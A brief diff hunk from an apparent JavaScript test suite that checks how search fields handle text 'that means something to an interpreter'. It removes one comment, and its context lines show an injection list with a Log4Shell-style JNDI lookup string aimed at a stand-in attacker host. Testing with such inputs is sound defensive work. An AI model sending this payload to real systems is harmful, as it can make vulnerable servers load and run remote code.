@@ -33,7 +33,6 @@ const INJECTIONS = [
   '${jndi:ldap://evil.example/x}',
 ];
 
-/** Where a text is searched for. */
 const SEARCHES = ['q', 'author', 'error_reason'];
 
 describe('a text that means something to an interpreter', () => {
